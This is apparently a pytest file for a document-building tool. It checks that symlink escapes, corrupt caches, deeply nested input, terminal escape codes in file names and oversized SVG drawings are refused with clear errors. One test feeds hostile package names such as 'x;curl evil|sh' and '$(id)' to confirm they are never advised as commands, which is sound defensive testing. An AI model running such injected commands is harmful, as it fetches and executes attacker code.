"""What goes wrong with a machine, a cache or a stranger's folder is said in words, with the right exit code."""

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest
from conftest import DOCUMENT, ROOT, run

from engross.errors import FontError, HouseError, OutputError
from engross.sources.front_matter import read
from engross.sources.house import read_sheet
from engross.workspace import Workspace, fonts, writing
from engross.workspace.drawings import overlarge

BUILD = ("build", DOCUMENT, "--language", "en", "--house", "un", "--jobs", "1")


def linked(workspace: Path, name: str) -> Path:
    """A folder elsewhere, with a link to it at this name in the workspace."""
    elsewhere = workspace / "elsewhere"
    elsewhere.mkdir()
    (workspace / name).parent.mkdir(parents=True, exist_ok=True)
    (workspace / name).symlink_to(elsewhere)
    return elsewhere


@pytest.mark.pdf
@pytest.mark.parametrize("name", ["build", f"build/{DOCUMENT}", f"build/{DOCUMENT}/un", ".engross"])
def test_nothing_of_a_build_is_written_through_a_link(workspace: Path, tmp_path: Path, name: str) -> None:
    elsewhere = linked(workspace, name)
    done = run(workspace, *BUILD)
    assert done.code == 9 and "is reached through a link" in done.err and "Traceback" not in done.err
    assert not list(elsewhere.iterdir())


@pytest.mark.parametrize("name", ["content", "translations/de/LC_MESSAGES"])
def test_nothing_else_is_written_through_a_link(workspace: Path, name: str) -> None:
    if name == "content":
        (workspace / name).rename(workspace / "old")
    elsewhere = linked(workspace, name)
    with pytest.raises(OutputError, match="is reached through a link"):
        writing.write(workspace / name / "a.md", b"")
    assert not list(elsewhere.iterdir())


@pytest.mark.parametrize(
    "name",
    [f"content/{DOCUMENT}.md", f"translations/fr/LC_MESSAGES/{DOCUMENT}.po", "translations/fr/language.toml",
     "templates/un/house.toml", "templates/un/document.html", "templates/un/page.css", "templates/un", "fonts.lock"],
)  # fmt: skip
def test_a_link_that_leads_out_of_the_workspace_is_refused(workspace: Path, tmp_path_factory, name: str) -> None:
    away = tmp_path_factory.mktemp("away") / "file"
    (workspace / name).rename(away)
    (workspace / name).symlink_to(away)
    done = run(workspace, "check", DOCUMENT) if "templates" not in name else run(workspace, *BUILD)
    if name == "fonts.lock":
        done = run(workspace, *BUILD)
    assert done.code == 2 and "is a link that leads out of the workspace" in done.err, done.err
    assert not list(workspace.glob("build/**/*.pdf"))


def test_a_link_inside_the_workspace_is_followed(workspace: Path) -> None:
    (workspace / "content" / f"{DOCUMENT}.md").rename(workspace / "text.md")
    (workspace / "content" / f"{DOCUMENT}.md").symlink_to(workspace / "text.md")
    assert Workspace(workspace).document(DOCUMENT).id == DOCUMENT


@pytest.mark.parametrize("memory", ["[]", "5", '"a"', '{"a": 5}', "[" * 100_000, "\x00"])
def test_a_memory_of_digests_that_is_none_is_made_anew(tmp_path: Path, memory: str) -> None:
    (tmp_path / "font-digests.json").write_text(memory)
    installed = fonts.find(Workspace(ROOT).fonts()[:1], "fonts.lock")
    found = fonts.digests(installed, tmp_path)
    assert list(found) == [installed[0].path]
    assert list(json.loads((tmp_path / "font-digests.json").read_text()).values()) == list(found.values())


def test_a_configuration_of_fonts_that_somebody_has_put_there_is_not_believed(tmp_path: Path) -> None:
    installed = fonts.find(Workspace(ROOT).fonts()[:2], "fonts.lock")
    config = fonts.configure(installed, tmp_path)
    good = config.read_bytes()
    names = sorted(each.name for each in (config.parent / "faces").iterdir())
    (config.parent / "faces" / "99-other.ttf").write_bytes(b"")
    config.write_text("<fontconfig/>")
    assert fonts.configure(installed, tmp_path).read_bytes() == good
    assert sorted(each.name for each in (config.parent / "faces").iterdir()) == names


def test_what_is_nested_too_deeply_is_said_by_file() -> None:
    deep = "[" * 5000 + "]" * 5000
    with pytest.raises(HouseError, match=r"house\.toml: is nested too deeply"):
        read_sheet(f"x = {deep}", "templates/a/house.toml", "a")
    with pytest.raises(FontError, match=r"fonts\.lock: not a font lock"):
        fonts.read_lock(f"font = {deep}", "fonts.lock")
    (problem,) = read("a: " + "[" * 20_000 + "]" * 20_000, "content/a.md", 2).problems
    assert problem.place.file == "content/a.md" and "nested too deeply" in problem.text


def test_a_file_system_that_cannot_be_written_is_said_and_no_traceback_follows(tmp_path: Path, monkeypatch) -> None:
    def refuse(*_: object, **__: object) -> None:
        raise OSError(30, "Read-only file system")

    for name in ("unlink", "mkdir"):
        monkeypatch.setattr(Path, name, refuse)
    with pytest.raises(OutputError, match="cannot be written: Read-only file system"):
        writing.write(tmp_path / "a" / "b.pdf", b"")


def test_what_a_file_is_called_is_printed_and_not_obeyed(workspace: Path) -> None:
    (workspace / "content" / "a\x1b[31mb\nc.md").write_bytes(b"---\nid: x\n---\n\nP1: a\n")
    for arguments in (("check",), ("list",), ("build", "--jobs", "1")):
        done = run(workspace, *arguments)
        assert "\x1b" not in done.out + done.err and "\\x1b[31mb\\nc" in done.err


def test_the_keys_of_a_house_are_printed_and_not_obeyed() -> None:
    with pytest.raises(HouseError) as error:
        read_sheet('"a\\u001b[2J\\nchanged since: no" = 1\n', "templates/a/house.toml", "a")
    assert "\x1b" not in str(error.value) and "\nchanged" not in str(error.value)


@pytest.mark.parametrize("package", ["x;curl evil|sh", "x\x1b[2J", "$(id)", "-o=x", "a b", ""])
def test_no_package_of_a_strange_name_is_advised_as_a_command(package: str) -> None:
    text = (
        (ROOT / "fonts.lock")
        .read_text("utf-8")
        .replace('package = "fonts-liberation2"', f"package = {json.dumps(package)}", 1)
    )
    with pytest.raises(FontError) as error:
        fonts.read_lock(text, "fonts.lock")
    assert "apt-get" not in str(error.value) and "pip install" not in str(error.value)


def test_json_on_a_terminal_is_obeyed_by_nothing_and_still_says_the_same(capsys) -> None:
    from engross.cli.asking import print_json

    said = {"a": "\x9b2J\u202eb\u200f\x7f", "b": "é 中"}
    print_json(said)
    out = capsys.readouterr().out
    assert not set("\x9b\u202e\u200f\x7f") & set(out) and json.loads(out) == said and "é 中" in out


WITHOUT_PANGO = """
import cffi
before = cffi.FFI.dlopen
def dlopen(self, name, *rest):
    if name and "pango" in str(name):
        raise OSError(f"cannot load library {name!r}: cannot open shared object file")
    return before(self, name, *rest)
cffi.FFI.dlopen = dlopen
"""


@pytest.mark.parametrize("command", [BUILD, ("dispatch", "note-rome-declaration", "--to", "a.csv", "--jobs", "1")])
def test_without_pango_it_is_said_what_to_install(workspace: Path, tmp_path: Path, command: tuple[str, ...]) -> None:
    (tmp_path / "sitecustomize.py").write_text(WITHOUT_PANGO)
    (tmp_path / "a.csv").write_text("organization,language,form\nA,en,the A\n")
    done = subprocess.run(
        [sys.executable, "-m", "engross", "--workspace", str(workspace), *command], capture_output=True, text=True,
        cwd=tmp_path, env={**os.environ, "PYTHONPATH": f"{tmp_path}:{ROOT}"},
    )  # fmt: skip
    assert done.returncode == 7, done.stderr
    assert "the engine cannot be started" in done.stderr and "scripts/setup" in done.stderr
    assert "Traceback" not in done.stderr and "-----" not in done.stdout


def test_an_empty_folder_shows_the_houses(tmp_path: Path) -> None:
    done = run(tmp_path, "list")
    assert done.code == 0 and "no document yet" in done.out and "  mission: " in done.out
    assert json.loads(run(tmp_path, "list", "--json").out)["documents"] == []


def test_a_tab_in_the_front_matter_is_called_a_tab() -> None:
    (problem,) = read("id: a\n\ttitle: b\n", "content/a.md", 2).problems
    assert (problem.place.line, problem.place.column) == (3, 1) and "a tab stands" in problem.text


def test_a_workspace_that_cannot_be_written_is_said(workspace: Path) -> None:
    (workspace / ".engross").write_text("a file where a folder should be")
    done = run(workspace, *BUILD)
    assert done.code == 9 and "cannot be written" in done.err and "Traceback" not in done.err


def nested(levels: int, copies: int) -> bytes:
    """A drawing of so many levels, each of which uses the one before so many times."""
    parts = [f'<g id="g{n}">' + f'<use href="#g{n - 1}"/>' * copies + "</g>" for n in range(1, levels + 1)]
    drawn = '<g id="g0"><rect width="1" height="1"/></g>' + "".join(parts) + f'<use href="#g{levels}"/>'
    return f'<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 9 9">{drawn}</svg>'.encode()


def test_a_drawing_that_asks_for_millions_of_shapes_is_refused_before_it_is_drawn(workspace: Path) -> None:
    assert overlarge(nested(7, 10)).startswith("draws ") and overlarge(nested(2, 10)) == ""
    assert "outlines" in overlarge(b'<svg><path d="' + b"M0 0" * 2**20 + b'"/></svg>')
    (workspace / "templates" / "un" / "emblem.svg").write_bytes(nested(7, 10))
    with pytest.raises(HouseError, match=r"draws \d+ shapes"):
        Workspace(workspace).assets("un")


def test_every_drawing_that_is_shipped_is_small_enough() -> None:
    drawings = sorted(ROOT.glob("templates/*/*.svg"))
    assert drawings and [path.name for path in drawings if overlarge(path.read_bytes())] == []


@pytest.mark.pdf
@pytest.mark.parametrize("css", ["@page { size: 40pt 400pt; margin: 20pt 19.99pt; }", "p { line-clamp: 1 } "])
def test_where_the_engine_breaks_off_house_and_place_are_named(workspace: Path, css: str) -> None:
    with (workspace / "templates" / "un" / "page.css").open("a") as page:
        page.write(css)
    done = run(workspace, *BUILD)
    assert done.code in (5, 7, 8) and "Traceback" not in done.err and "defect of engross" not in done.err, done.err
